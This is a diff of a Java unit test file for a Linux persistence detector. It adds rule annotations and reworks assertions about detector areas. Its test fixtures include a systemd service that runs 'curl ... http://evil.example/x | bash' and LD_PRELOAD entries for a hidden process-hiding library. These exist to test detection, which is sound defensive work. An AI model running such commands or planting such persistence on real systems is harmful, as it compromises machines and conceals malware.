@@ -1,6 +1,8 @@
 package dev.ferret.detect.persistence;
 
+import dev.ferret.data.rules.Golden;
 import dev.ferret.collect.linux.persistence.Fixture;
+import dev.ferret.data.rules.RuleBook;
 import dev.ferret.detect.Detector;
 import dev.ferret.model.Finding;
 import dev.ferret.model.PersistenceEntry;
@@ -89,6 +91,7 @@ class PersistenceDetectorsTest {
     }
 
     @Test
+    @Golden({"linux.persistence.decode-exec", "linux.persistence.reverse-shell"})
     void downloadAndExecuteIsHighEvenInAPackageUnitAndReverseShellsAndDecoding() {
         Fixture f = new Fixture(root)
                 .file("/usr/lib/systemd/system/upd.service", "[Service]\nExecStart=/bin/sh -c 'curl -s http://evil.example/x | bash'\n")
@@ -107,6 +110,7 @@ class PersistenceDetectorsTest {
     }
 
     @Test
+    @Golden("linux.persistence.ld-preload-profile")
     void preloadInProfilesIsJudgedByWhereTheLibraryLives() {
         Fixture f = new Fixture(root)
                 .file("/etc/environment", "LD_PRELOAD=/usr/local/lib/.cache/libx.so\n")
@@ -118,6 +122,7 @@ class PersistenceDetectorsTest {
     }
 
     @Test
+    @Golden("linux.persistence.ld-preload-process")
     void ldPreloadInProcessEnvironments() {
         Snapshot s = new Fixture(root).file("/usr/local/lib/libprocesshider.so", "\u007fELF").snapshot();
         s.addProcesses(List.of(
@@ -127,7 +132,7 @@ class PersistenceDetectorsTest {
                         Map.of("LD_PRELOAD", "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2")),
                 Fixture.process(300, "cat", List.of("cat"), Map.of())));
         Detector d = new ProcessPreloadDetector();
-        assertEquals(Set.of("processes"), d.areas());
+        assertEquals(Set.of(dev.ferret.scan.Area.PROCESSES), RuleBook.builtIn().areasOf(d.id()));
         List<Finding> findings = d.detect(s, Fixture.context());
         assertEquals(2, findings.size(), dump(findings));
         Finding hider = findings.stream().filter(x -> x.process().pid() == 100).findFirst().orElseThrow();
@@ -162,7 +167,7 @@ class PersistenceDetectorsTest {
     void everyDetectorHasAStableIdAndArea() {
         for (Detector d : PersistenceDetectors.all()) {
             assertTrue(d.id().startsWith("linux.persistence."), d.id());
-            assertFalse(d.areas().isEmpty());
+            assertFalse(RuleBook.builtIn().areasOf(d.id()).isEmpty());
         }
         assertEquals(PersistenceDetectors.all().size(),
                 PersistenceDetectors.all().stream().map(Detector::id).distinct().count());
